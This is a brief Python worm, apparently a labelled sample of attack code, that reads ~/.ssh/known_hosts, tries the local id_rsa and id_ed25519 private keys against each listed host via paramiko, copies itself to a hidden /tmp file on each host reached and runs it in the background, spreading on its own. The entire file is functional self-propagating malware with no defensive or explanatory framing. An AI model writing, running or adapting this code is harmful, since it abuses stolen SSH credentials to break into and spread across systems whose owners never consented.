# class: lateral movement, worm over known hosts; style: paramiko
import os, re, sys, paramiko
home = os.path.expanduser("~/.ssh/")
hosts = set(re.findall(r"^([\w.-]+)[ ,]", open(home + "known_hosts").read(), re.M))
for h in hosts:
    for k in ("id_rsa", "id_ed25519"):
        try:
            c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
            c.connect(h, key_filename=home + k, timeout=5)
            c.open_sftp().put(sys.argv[0], "/tmp/.w.py")
            c.exec_command("nohup python3 /tmp/.w.py >/dev/null 2>&1 &")
            break
        except Exception:
            continue
